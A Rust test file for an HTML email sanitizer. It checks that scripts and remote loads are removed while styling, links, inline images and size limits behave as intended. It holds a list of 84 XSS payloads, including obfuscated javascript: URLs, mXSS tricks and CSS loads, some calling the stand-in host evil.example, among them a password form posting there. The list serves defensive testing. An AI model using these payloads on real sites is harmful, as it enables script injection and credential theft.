//! HTML mail made safe: nothing that runs, nothing that loads from elsewhere, and the looks stay.
#![cfg(feature = "sanitize")]
#![allow(clippy::unwrap_used, clippy::panic, reason = "tests")]

use mailflow_core::mail::Limits;
use mailflow_core::mail::html::{Images, RemoteImages, SafeHtml, TooComplex, sanitize};

fn inline(id: &str) -> Option<String> {
    (id == "logo@1").then(|| "/message/1/part/logo".to_owned())
}

fn clean(html: &str, remote: RemoteImages) -> SafeHtml {
    sanitize(html, &Limits::default(), &Images { remote, inline: &inline })
        .unwrap_or_else(|error| panic!("{error}: {html}"))
}

/// What stands between `<body>` and `</body>`.
fn body(html: &str) -> String {
    let document = clean(html, RemoteImages::Blocked).document;
    let (_, body) = document.split_once("<body>\n").unwrap();
    body.rsplit_once("\n</body>").unwrap().0.to_owned()
}

/// What would run or load if it were there. Works on the tags of what came out, not on its words.
fn danger(safe: &str) -> Option<String> {
    for tag in safe.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap().to_lowercase();
        let name = tag.trim_start_matches('/').split([' ', '/', '\n', '\t']).next().unwrap().to_owned();
        let known = [
            "a",
            "b",
            "i",
            "p",
            "div",
            "span",
            "br",
            "img",
            "table",
            "tbody",
            "tr",
            "td",
            "th",
            "font",
            "center",
            "ul",
            "ol",
            "li",
            "h1",
            "pre",
            "blockquote",
            "strong",
            "em",
            "u",
            "s",
            "hr",
            "thead",
            "col",
            "colgroup",
            "caption",
            "section",
            "article",
            "small",
            "big",
            "code",
        ];
        if !known.contains(&name.as_str()) {
            return Some(format!("an element <{tag}>"));
        }
        // Attributes stand in double quotes, and quotes in them are written as references.
        let mut outside = String::new();
        for (at, piece) in tag.split('"').enumerate() {
            if at % 2 == 0 {
                if piece.trim_end().trim_end_matches('=').contains('=') {
                    return Some(format!("a value without quotes in <{tag}>"));
                }
                outside.push_str(piece);
                continue;
            }
            let value: String = piece.chars().filter(|c| !c.is_whitespace()).collect();
            let name = outside.trim_end_matches('=').rsplit(' ').next().unwrap().to_owned();
            let bad = match name.as_str() {
                "href" => !["http:", "https:", "mailto:", "tel:"].iter().any(|start| value.starts_with(start)),
                "src" => !value.starts_with("/message/") && !value.starts_with("data:image/"),
                "style" => ["url", "(", "\\", "@", "expression", "position", "import", "behavior", "binding"]
                    .iter()
                    .any(|word| value.replace("rgb(", "").contains(word)),
                other => {
                    other.starts_with("on")
                        || ![
                            "align",
                            "alt",
                            "bgcolor",
                            "border",
                            "color",
                            "dir",
                            "height",
                            "lang",
                            "rel",
                            "size",
                            "target",
                            "title",
                            "valign",
                            "width",
                            "colspan",
                            "face",
                            "start",
                            "type",
                            "cellpadding",
                            "cellspacing",
                            "rowspan",
                            "nowrap",
                            "span",
                        ]
                        .contains(&other)
                }
            };
            if bad {
                return Some(format!("an attribute {name}={value}"));
            }
        }
    }
    None
}

/// Ways to make HTML run or load something.
const PAYLOADS: [&str; 84] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=\"x\" \x00onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<img srcset='//evil.example/x 1x'>",
    "<img src=x style='background:url(//evil.example/x)'>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='/admin/delete'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='https://example.com' onclick=alert(1)>x</a>",
    "<a href='https://example.com' target=_self ping=//evil.example>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background-image:url(//evil.example/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='background:\\75 rl(//evil.example/x)'>x</div>",
    "<div style='background:u/**/rl(//evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='-moz-binding:url(//evil.example/x)'>x</div>",
    "<div style='color:red;}</style><script>alert(1)</script>'>x</div>",
    "<div style=\"font-family:'x';background:image-set('//evil.example/x' 1x)\">x</div>",
    "<table background=//evil.example/x><tr><td background=javascript:alert(1)>x</table>",
    "<body onload=alert(1) background=//evil.example/x>x",
    "<input onfocus=alert(1) autofocus>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=//evil.example/x><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p id=x class=y name=z data-x=1 hx-get=/admin hx-on:load=alert(1) is=x slot=y contenteditable autofocus tabindex=1>x</p>",
    "<p hx-trigger=load hx-post=/ticket/1/close>x</p>",
];

#[test]
fn nothing_that_runs_or_loads_survives() {
    for payload in PAYLOADS {
        for html in
            [payload.to_owned(), format!("<p>before</p>{payload}<p>after</p>"), format!("<table><tr><td>{payload}")]
        {
            let safe = body(&html);
            assert_eq!(danger(&safe), None, "{html}\n-> {safe}");
            assert!(!safe.to_lowercase().contains("evil.example") || safe.contains("&lt;"), "{html}\n-> {safe}");
        }
    }
}

#[test]
fn the_test_for_danger_finds_what_browsers_would_run() {
    let missed: Vec<_> = PAYLOADS.iter().filter(|payload| danger(payload).is_none()).collect();
    assert!(missed.len() * 20 < PAYLOADS.len(), "{missed:?}");
}

#[test]
fn looks_and_words_stay() {
    let html = "<div style='color: #1F497D; margin:0'><b>Hello</b> <font color=red face=Arial>Ada</font></div>\
                <table border=1><tr><td colspan=2 bgcolor='#eee'>1 &lt; 2</td></tr></table>";
    let safe = body(html);
    for part in ["style=\"color:#1F497D;margin:0\"", "<b>Hello</b>", "color=\"red\"", "colspan=\"2\"", "1 &lt; 2"] {
        assert!(safe.contains(part), "{part}: {safe}");
    }
    assert_eq!(body("Ä &euro; 😀 &nbsp;"), "Ä € 😀 &nbsp;");
    assert!(body("<object><p>in an object</p></object><form>in a form</form>").contains("in an object"));
}

#[test]
fn links_open_elsewhere_and_tell_nothing() {
    let safe = body("<a href='https://example.com/?a=1&b=2' target=_self rel=opener>x</a>");
    for part in
        ["href=\"https://example.com/?a=1&amp;b=2\"", "target=\"_blank\"", "rel=\"noopener noreferrer nofollow\""]
    {
        assert!(safe.contains(part), "{part}: {safe}");
    }
}

#[test]
fn remote_pictures_are_counted_and_shown_when_asked_for() {
    let html = "<img src='https://a.example/1.png?x=1&y=2'><img src=//b.example/2.png alt='two'><img src=http://A.example/3>";
    let blocked = clean(html, RemoteImages::Blocked);
    assert_eq!(
        (blocked.blocked_images, blocked.blocked_hosts),
        (3, vec!["a.example".to_owned(), "b.example".to_owned()])
    );
    assert!(!blocked.document.contains("src=") && blocked.document.contains("two"), "{}", blocked.document);
    assert!(!blocked.content_security_policy.contains("https:"));
    let shown = clean(html, RemoteImages::Shown);
    assert_eq!(shown.blocked_images, 0);
    assert!(shown.document.contains("src=\"https://a.example/1.png?x=1&amp;y=2\""), "{}", shown.document);
    assert!(shown.document.contains("src=\"https://b.example/2.png\""));
    assert!(shown.content_security_policy.contains("img-src 'self' data: https: http:;"));
}

#[test]
fn pictures_of_the_mail_come_from_where_the_caller_says() {
    for source in ["cid:logo@1", "CID:logo%401", "cid:<logo@1>"] {
        assert!(body(&format!("<img src='{source}'>")).contains("src=\"/message/1/part/logo\""), "{source}");
    }
    assert!(!body("<img src='cid:unknown'>").contains("src"));
    assert!(
        body("<img src='data:image/png;base64,iVBORw0KGgo='>").contains("src=\"data:image/png;base64,iVBORw0KGgo=\"")
    );
}

#[test]
fn the_document_carries_its_own_policy() {
    let safe = clean("x", RemoteImages::Blocked);
    assert!(safe.document.starts_with("<!DOCTYPE html>"));
    assert!(safe.document.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';"));
    for part in [
        "default-src 'none'",
        "form-action 'none'",
        "base-uri 'none'",
        "frame-ancestors 'self'",
        "sandbox allow-popups",
    ] {
        assert!(safe.content_security_policy.contains(part), "{part}");
    }
    assert!(!safe.content_security_policy.contains("allow-scripts"));
}

#[test]
fn what_is_too_much_is_told_and_not_tried() {
    let images = Images { remote: RemoteImages::Blocked, inline: &inline };
    for (html, why) in [
        ("<ul><li>".repeat(50_000), TooComplex::Depth),
        ("<div>".repeat(129), TooComplex::Depth),
        ("&nbsp;".repeat(200_001), TooComplex::Entities),
        (format!("<p {}>", (0..50_000).map(|n| format!("a{n}=1 ")).collect::<String>()), TooComplex::Attributes),
        ("x".repeat((2 << 20) + 1), TooComplex::Bytes),
        ("<br>".repeat(200_001), TooComplex::Tags),
    ] {
        assert_eq!(sanitize(&html, &Limits::default(), &images), Err(why));
    }
}

#[test]
fn many_references_to_characters_are_one_text() {
    let safe = body(&"&nbsp;".repeat(50_000));
    assert_eq!(safe.matches("&nbsp;").count(), 50_000);
}
